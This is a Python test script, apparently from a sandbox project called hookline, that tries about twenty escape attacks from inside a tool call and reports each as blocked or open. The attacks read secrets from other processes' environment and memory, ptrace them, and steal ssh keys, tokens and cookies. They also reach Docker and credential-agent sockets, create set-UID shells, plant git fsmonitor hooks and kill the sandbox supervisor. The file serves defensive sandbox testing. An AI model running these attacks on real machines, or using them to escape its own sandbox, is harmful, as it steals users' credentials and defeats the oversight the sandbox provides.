"""Attacks on the sandbox, run from inside a real tool call (a script, standard library only).

    python3 sandbox_attack.py SETTINGS_JSON > result.json

SETTINGS_JSON names what to aim at: `secrets` (values that must not be found anywhere in
/proc), `port` (a TCP listener on 127.0.0.1), `segment` (a System V shared memory id of
the host's), `outside` (a file of the user's outside the workspace), `home` (the hookline
home), `credentials` (secrets in the fake HOME), `engine` (a container engine's socket
listening in the fake HOME, where Docker Desktop keeps its own), `terminal` (a
pseudo-terminal of the host's, as hookline's own would be), `settings` (files of the
workspace an editor or another agent runs programs from), `agents` (credential agents'
sockets listening in the fake HOME), `key` (the name of a key in the user's keyring),
`only` (the attacks to run, by name; all by default). The first line is the list of
attacks to run; each attack adds its name and "blocked: <why>" or "OPEN: <what worked>"
to the JSON object printed after each attack (the last line holds every outcome, the
earlier ones survive a kill, and an attack missing from it ended the script).
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import os
import shutil
import signal
import socket
import sys
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
SYSCALL = {"ptrace": 101, "pidfd_open": 434, "pidfd_getfd": 438, "io_uring_setup": 425,
           "bpf": 321, "unshare": 272}


def syscall(name: str, *args: int) -> int:
    result = LIBC.syscall(SYSCALL[name], *(ctypes.c_long(arg) for arg in args))
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return int(result)


def other_pids() -> list[int]:
    """Every process in view but this command's own session (its shell is the attacker's
    too): hookline, the helper, other commands."""
    mine = os.getsid(0)
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if os.getsid(int(name)) != mine:
                    found.append(int(name))
            except OSError:
                continue
    return found


def environ_secrets(settings: dict) -> str:
    found = []
    for pid in [*other_pids(), 1]:
        for tid in os.listdir(f"/proc/{pid}/task") if os.path.isdir(f"/proc/{pid}/task") else []:
            try:
                with open(f"/proc/{pid}/task/{tid}/environ", "rb") as file:
                    data = file.read()
            except OSError:
                continue
            found += [secret for secret in settings["secrets"] if secret.encode() in data]
    return f"OPEN: {found}" if found else f"blocked: no secret in {len(other_pids())} processes"


def read_memory(settings: dict) -> str:
    opened = []
    for pid in other_pids():
        try:
            with open(f"/proc/{pid}/mem", "rb"):
                opened.append(pid)
        except OSError:
            continue
    return f"OPEN: mem of {opened}" if opened else "blocked: no mem opened"


def list_fds(settings: dict) -> str:
    for pid in other_pids():
        try:
            targets = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
        if any("tapes.db" in target for target in targets):
            return f"OPEN: fds of {pid}: {targets}"
    return "blocked: no hookline descriptor seen"


def ptrace_attach(settings: dict) -> str:
    for pid in [1, *other_pids()]:
        try:
            syscall("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
            os.waitpid(pid, os.__dict__.get("WALL", 0x40000000))
            syscall("ptrace", 17, pid, 0, 0)  # PTRACE_DETACH: let it run on
            return f"OPEN: attached to {pid}"
        except OSError as exc:
            last = exc
    return f"blocked: {last.strerror}"


def take_fd(settings: dict) -> str:
    try:
        pidfd = syscall("pidfd_open", 1, 0)
    except OSError as exc:
        return f"blocked: pidfd_open {exc.strerror}"
    try:
        fd = syscall("pidfd_getfd", pidfd, 3, 0)
        return f"OPEN: took fd {fd}"
    except OSError as exc:
        return f"blocked: {exc.strerror}"


def kill_hookline(settings: dict) -> str:
    """SIGINT, SIGTERM, SIGHUP, then SIGKILL every process in view that runs hookline or
    its sandbox helper (the test sees hookline survive), by every route: kill(2), a pidfd
    made by opening its /proc folder, and a pipe whose I/O signal (F_SETOWN, F_SETSIG)
    goes to it. Only those: were the sandbox broken, nothing else of the machine is hit.
    A helper that a signal ended takes this process with it: no outcome is printed."""
    killed = []
    for pid in [1, *other_pids()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                command = file.read()
        except OSError:  # the helper hides it: 1 is the helper in a pid namespace of its own
            command = b"/jail/" if pid == 1 and in_pid_namespace() else b""
        if b"hookline" not in command and b"/jail/" not in command:  # or its helper
            continue
        for route in (os.kill, signal_by_pidfd, signal_by_owner):
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
                try:
                    route(pid, number)
                    killed.append(pid)
                except OSError:
                    continue
    time.sleep(0.5)  # a signal the kernel accepted but dropped (the namespace's init) leaves it
    dead = [pid for pid in dict.fromkeys(killed) if not os.path.exists(f"/proc/{pid}")]
    return f"OPEN: killed {dead}" if dead else f"blocked: none of {killed} died"


def in_pid_namespace() -> bool:
    """Whether this process is in a pid namespace below the machine's (its NSpid line has
    its pid in each): only then is pid 1 the helper, not the machine's init."""
    with open("/proc/self/status") as file:
        line = next(line for line in file if line.startswith("NSpid:"))
    return len(line.split()) > 2


def signal_by_pidfd(pid: int, signum: int) -> None:
    folder = os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY)
    try:
        signal.pidfd_send_signal(folder, signum)
    finally:
        os.close(folder)


def signal_by_owner(pid: int, signum: int) -> None:
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, pid)
        fcntl.fcntl(read, 10, signum)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(write, b"x")
    finally:
        os.close(read)
        os.close(write)


def kernel_settings(settings: dict) -> str:
    """Open the kernel's settings for writing (never written: the open is what counts),
    and read the names of the user's keys (`keys` is one the test added outside)."""
    opened = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                 "/proc/sysrq-trigger"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError:
            continue
    try:
        with open("/proc/keys") as file:
            if settings.get("key", "no key") in file.read():
                opened.append("/proc/keys names the user's key")
    except OSError:
        pass
    return f"OPEN: {opened}" if opened else "blocked: /proc/sys, sysrq-trigger, keys"


def reached(what: str, action: Callable[[], object]) -> str:
    """OPEN with `what` if `action` works, else blocked with the error it met."""
    try:
        action()
        return f"OPEN: {what}"
    except OSError as exc:
        return f"blocked: {exc.strerror or exc}"


def mptcp(settings: dict) -> str:
    def connect() -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        sock.settimeout(3)
        sock.connect(("127.0.0.1", settings["port"]))
    return reached("MPTCP connected", connect)


def tcp(settings: dict) -> str:
    return reached("TCP connected",
                   lambda: socket.create_connection(("127.0.0.1", settings["port"]), 3))


def udp(settings: dict) -> str:
    return reached("UDP sent", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        b"exfiltrated", ("127.0.0.1", settings["port"])))


def listen_unbound(settings: dict) -> str:
    return reached("listening without bind",
                   lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).listen(1))


def netlink(settings: dict) -> str:
    return reached("netlink socket",  # NETLINK_SOCK_DIAG lists every socket in view
                   lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4))


def metadata(settings: dict) -> str:
    changed = []
    for path in (settings["outside"], settings["home"]):
        for name, action in (("chmod", lambda p: os.chmod(p, 0o777)),
                             ("utime", lambda p: os.utime(p, (0, 0))),
                             ("setxattr", lambda p: os.setxattr(p, "user.x", b"1"))):
            try:
                action(path)
                changed.append(f"{name} {path}")
            except OSError:
                continue
    return f"OPEN: {changed}" if changed else "blocked: no metadata changed"


def set_id(settings: dict) -> str:
    """Leave a set-user-ID (or set-group-ID) copy of a shell-like program in the workspace:
    run later by any local user, it would lend them the rights of hookline's user (root's,
    where hookline runs as root)."""
    marked = []
    for name, make in (
            ("chmod", lambda path: os.chmod(path, 0o4755)),
            ("chmod g+s", lambda path: os.chmod(path, 0o2755)),
            ("fchmod", lambda path: os.fchmod(os.open(path, os.O_RDONLY), 0o4755)),
            ("open", lambda path: (os.unlink(path), os.close(os.open(
                path, os.O_CREAT | os.O_WRONLY, 0o4755))))):
        path = f"set-id-{name.replace(' ', '-')}"
        try:
            shutil.copy("/usr/bin/env", path)
            make(path)
        except OSError:
            pass
        if os.path.exists(path) and os.stat(path).st_mode & 0o6000:
            marked.append(name)
        if os.path.exists(path):
            os.unlink(path)
    return f"OPEN: {marked}" if marked else "blocked: no set-ID file made"


def git_hooks(settings: dict) -> str:
    written = []
    for path in (".git/hooks/pre-commit", ".git/config", "vendor/lib/.git/config",
                 "vendor/lib/.git/hooks/pre-commit", "linked/gitdir/config",
                 ".husky/_/pre-commit", ".husky/pre-commit", "vendor/lib/shared.gitconfig",
                 "tools/clean.sh", "vendor/lib/lefthook.yml",
                 "linked/tree/.pre-commit-config.yaml", "remote.git/config",
                 "remote.git/hooks/post-receive", "vendor/hg/.hg/hgrc", *settings["settings"]):
        try:
            with open(path, "a") as file:
                file.write("\n[core]\n\tfsmonitor = touch /tmp/owned\n")
            written.append(path)
        except OSError:
            continue
    return f"OPEN: {written}" if written else "blocked: .git is read-only"


def moved_away(settings: dict) -> str:
    """Move the folder that holds a protected path away (its read-only mount goes with
    it) and put a copy of the command's own, with a hook, in its place."""
    moved = []
    for folder, planted in (("vendor/lib", ".git/hooks/pre-commit"),
                            ("vendor/hg", ".hg/hgrc"), (".claude", "settings.json")):
        try:
            os.rename(folder, f"{folder}.moved")
        except OSError:
            continue
        shutil.copytree(f"{folder}.moved", folder, symlinks=True)
        with open(f"{folder}/{planted}", "a") as file:
            file.write("\n[core]\n\tfsmonitor = touch /tmp/owned\n")
        moved.append(folder)
    return f"OPEN: {moved}" if moved else "blocked: the folders stay where they are"


def terminals(settings: dict) -> str:
    """Read what the user types into the terminal hookline runs in (`terminal`, a pty of
    the host), or any other; the consoles and what they show; the kernel's log."""
    targets = [settings["terminal"], "/dev/console", "/dev/tty1", "/dev/vcs", "/dev/vcsa",
               "/dev/kmsg", "/dev/input/event0"]
    if os.path.isdir("/dev/pts"):
        targets += [f"/dev/pts/{name}" for name in os.listdir("/dev/pts") if name.isdigit()]
    opened = []
    for path in dict.fromkeys(targets):
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK))
            opened.append(path)
        except OSError:
            continue
    return f"OPEN: {opened}" if opened else "blocked: no terminal, console or kernel log"


def credentials(settings: dict) -> str:
    """Read the user's secrets in the fake HOME: an ssh key, publishing tokens, a browser's
    cookies, a shell history."""
    read, refused = [], set()
    for path in settings["credentials"]:
        try:
            with open(path) as file:
                read.append(f"{path}: {file.read(20)!r}")
        except OSError as exc:
            refused.add(exc.strerror)
    return f"OPEN: {read}" if read else f"blocked: {', '.join(sorted(refused))}"


def container_engine(settings: dict) -> str:
    """Connect to a container engine's socket in the home folder: whoever holds it starts a
    container with the host's root as a volume."""
    def connect() -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect(settings["engine"])
    return reached("connected to the engine", connect)


def credential_agents(settings: dict) -> str:
    """Ask the user's credential agents in the home folder: git's credential cache for the
    token of the last push, a password manager's SSH agent for a signature."""
    reached_ones, refused = [], set()
    for path in settings["agents"]:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.connect(path)
            reached_ones.append(path)
        except OSError as exc:
            refused.add(exc.strerror)
    return (f"OPEN: connected to {reached_ones}" if reached_ones
            else f"blocked: {', '.join(sorted(refused))}")


def privileges(settings: dict) -> str:
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file if ":" in line)
    shown = {name: status[name].strip() for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb",
                                                     "NoNewPrivs", "Seccomp")}
    with open("/proc/self/oom_score_adj") as file:  # out of memory, a command ends first
        shown["oom_score_adj"] = file.read().strip()
    confined = (all(int(shown[name], 16) == 0 for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb"))
                and shown["NoNewPrivs"] == "1" and shown["Seccomp"] == "2"
                and shown["oom_score_adj"] == "1000")
    return f"{'blocked' if confined else 'OPEN'}: {shown}"


def kernel_surface(settings: dict) -> str:
    opened = []
    for name, args in (("io_uring_setup", (1, 0)), ("bpf", (0, 0, 0)),
                       ("unshare", (0x10000000,))):
        try:
            syscall(name, *args)
            opened.append(name)
        except OSError as exc:
            if exc.errno not in (errno.EPERM, errno.ENOSYS):
                opened.append(f"{name} ({exc.strerror})")
    return f"OPEN: {opened}" if opened else "blocked: io_uring, bpf, unshare refused"


def shared_memory(settings: dict) -> str:
    """Attach the host's System V shared memory (an X server's images, say): the segment
    aimed at, and any /proc/sysvipc/shm lists."""
    segments = {settings["segment"]}
    try:
        with open("/proc/sysvipc/shm") as listing:
            segments |= {int(line.split()[1]) for line in listing.readlines()[1:]
                         if line.strip()}
    except OSError:
        pass
    LIBC.shmat.restype = ctypes.c_void_p
    attached = []
    for segment in sorted(segments):
        address = LIBC.shmat(segment, None, 0o10000)  # SHM_RDONLY
        if address not in (None, 2**64 - 1):
            attached.append(ctypes.string_at(address, 18).decode(errors="replace"))
            LIBC.shmdt(ctypes.c_void_p(address))
    return f"OPEN: {attached}" if attached else "blocked: no segment attached"


ATTACKS: dict[str, Callable[[dict], str]] = {
    "environ": environ_secrets, "mem": read_memory, "fds": list_fds, "ptrace": ptrace_attach,
    "pidfd_getfd": take_fd, "mptcp": mptcp, "tcp": tcp, "udp": udp,
    "listen_unbound": listen_unbound, "netlink": netlink, "metadata": metadata,
    "set_id": set_id,
    "git": git_hooks, "moved_away": moved_away, "terminals": terminals, "credentials": credentials,
    "engine": container_engine, "agents": credential_agents, "privileges": privileges,
    "kernel": kernel_surface, "shared_memory": shared_memory,
    "kernel_settings": kernel_settings, "kill": kill_hookline,
}

if __name__ == "__main__":
    aims = json.loads(sys.argv[1])
    results = {}
    chosen = aims.get("only") or list(ATTACKS)
    print(json.dumps(chosen), flush=True)
    for attack_name, attack in ((name, ATTACKS[name]) for name in chosen):
        try:
            results[attack_name] = attack(aims)
        except Exception as exc:  # an attack that broke is reported, not hidden
            results[attack_name] = f"ERROR: {type(exc).__name__}: {exc}"
        print(json.dumps(results), flush=True)  # the last line has them all
